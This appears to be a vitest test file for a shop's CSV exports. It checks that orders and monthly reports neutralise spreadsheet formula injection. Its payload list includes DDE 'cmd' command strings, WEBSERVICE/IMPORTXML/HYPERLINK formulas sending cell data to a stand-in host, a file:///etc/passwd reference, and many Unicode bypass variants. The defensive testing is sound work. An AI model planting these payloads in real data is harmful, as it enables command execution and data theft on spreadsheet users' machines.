import { sql } from 'kysely';
import { beforeAll, expect, it } from 'vitest';
import { moscowDay } from '../../src/lib/calendar.ts';
import { noteSafety } from '../support/safety.ts';
import { describeShop } from '../support/shop.ts';
import { expectStatus } from '../support/shop-makers.ts';

/** What spreadsheets have been made to run, by the ways it was hidden. */
const formulas = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|calc!A0',
  '=HYPERLINK("https://elsewhere.example/?"&A1;"Открыть")',
  '=WEBSERVICE("https://elsewhere.example/"&B2)',
  '=IMPORTXML(CONCAT("https://elsewhere.example/?",A1),"//a")',
  '=IMAGE("https://elsewhere.example/x.png")',
  "='file:///etc/passwd'#$passwd.A1",
  '=1+1',
  '+1',
  '-1',
  '@A1',
  '=',
  '--1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\uFE661+1',
  '\u22121+1',
  '"=1+1"',
  "'=1+1",
  '""=1+1',
  '`=1+1',
  '\u200B=1+1',
  '\u200E=1+1',
  '\u2060=1+1',
  '\uFEFF=1+1',
  '\u00A0=1+1',
  'x";=1+1;"',
  'x;=1+1',
  'x,=1+1',
  'x, "=1+1"',
  'x|=1+1',
  '","=1+1',
  '";"=1+1',
  ';=1+1',
  ',=1+1',
  '=1+1;=2+2,=3+3',
];

/** As a name, which has a letter and no sign that is not seen. */
const asName = (text: string) => (/\p{L}/u.test(text) ? text : `${text}х`).replace(UNSEEN, '');

const UNSEEN = /[\u200B-\u200F\u2060\uFEFF]/g;

/** Those with lines of their own fit only where lines do. */
const lines = ['x\n=1+1', 'x\n"=1+1"', '"\n=1+1', 'x\n\n@A1', 'x\n,=1+1'];

/** What no cell of the file may begin with, whatever spaces and quotes stand before. */
const RUNS =
  /^["'`\s\u200B-\u200F\u2060\uFEFF]*[=+\-@\u2212\uFE62\uFE63\uFE66\uFE6B\uFF0B\uFF0D\uFF1D\uFF20]/;

describeShop('files for Excel', (shop) => {
  const ids: number[] = [];

  beforeAll(async () => {
    const buyer = await shop().buyer({ lastName: '=1+1х', firstName: '@A1', email: '+7=x@example.com' });
    const { id: categoryId } = await shop().category();
    const squads = formulas.filter(({ length }) => length <= 63);
    const texts = [...formulas, ...lines];
    const make = async (path: string, body: object) =>
      expectStatus(201, await shop().asAdmin.post(`/api/v1/${path}/create`, body));
    const names = texts.map((_, index) => asName(formulas[index % formulas.length] ?? ''));
    const price = 129.9;
    const { products } = await make('products', {
      products: names.map((name) => ({ name, categoryId, price, prioritySort: 5 })),
    });
    const { addressList } = await make('work-addresses', {
      workAddressList: names.map((name) => ({ name, deliveryCost: 350, freeDeliveryThreshold: 5000 })),
    });
    for (const [index, text] of texts.entries()) {
      const formula = formulas[index % formulas.length] ?? '';
      const name = names[index];
      const recipient = await shop().recipient(buyer.token, {
        lastName: name,
        confirmLastName: name,
        firstName: name,
        middleName: name,
        squadNumber: squads[index % squads.length]?.replace(UNSEEN, ''),
        additionalInfo: text.replace(UNSEEN, ''),
        institutionId: addressList[index].id,
      });
      const cartItems = [{ id: products[index].id, quantity: 1 }];
      const order = { addressId: recipient.id, cartItems, total: price };
      const { id } = await shop().order(buyer.token, order);
      // Stored before names had to be seen and to have a letter.
      await sql`update orders set last_name = ${formula}, additional_info = ${text} where id = ${id}`.execute(
        shop().services.db,
      );
      await shop().move(id, 'PAID', { comment: text.replace(UNSEEN, '') });
      ids.push(id);
    }
  });

  // Control: let BEGINS or INSIDE in export-csv.ts match nothing, or leave the marks out of PASSED.
  it.each(
    [';', ',', '\t', '|'].flatMap((separator) => [
      [separator, 'заказов', 20] as const,
      [separator, 'месяца', 11] as const,
    ]),
  )('run no formula when they are cut by %j: %s', async (separator, file, columns) => {
    const [path, body] =
      file === 'заказов'
        ? ['papers/csv', { ids }]
        : ['reports/csv', { month: moscowDay(new Date()).slice(0, 7) }];
    const { csv } = expectStatus(200, await shop().asAdmin.post(`/api/v1/user/order/${path}`, body));
    const rows = cut(csv.slice(1), separator);
    const cells = rows.flat();
    if (separator === ';') {
      // In a month's file what was delivered is a row of its own.
      expect(rows.length - 1).toBe((formulas.length + lines.length) * (file === 'заказов' ? 1 : 2));
      expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([columns]));
      // Defused, they still say what was written.
      const plain = cells.map((cell) => cell.replaceAll("'", ''));
      // A month's file names no recipient: its goods and facilities have been names from the first.
      const shown = file === 'заказов' ? formulas : formulas.map(asName);
      for (const text of shown) expect(plain, text).toContain(text.trim().replaceAll("'", ''));
    }
    // An apostrophe of ours stands in front: a cell that begins with it is text.
    const running = cells.filter((cell) => RUNS.test(cell) && !cell.startsWith("'"));
    expect(running).toEqual([]);
    noteSafety({
      what: `формулы в файле ${file} для Excel, ${formulas.length + lines.length} видов, разделитель ${JSON.stringify(separator)}`,
      where: shop().kind,
      goal: '0 выполнимых ячеек',
      reached: `${running.length} из ${cells.length}`,
    });
  });
});

/** Cuts a file as spreadsheets do: quotes count only at the beginning of a cell. */
function cut(csv: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let index = 0;
  while (index < csv.length) {
    const sign = csv[index];
    if (sign === '"' && cell === '') {
      index += 1;
      while (index < csv.length && !(csv[index] === '"' && csv[index + 1] !== '"')) {
        cell += csv[index];
        index += csv[index] === '"' ? 2 : 1;
      }
      index += 1;
    } else if (sign === separator || sign === '\n' || sign === '\r') {
      rows.at(-1)?.push(cell);
      cell = '';
      if (sign !== separator) {
        if (sign === '\r' && csv[index + 1] === '\n') index += 1;
        rows.push([]);
      }
      index += 1;
    } else {
      cell += sign;
      index += 1;
    }
  }
  return rows.filter(({ length }) => length > 0);
}
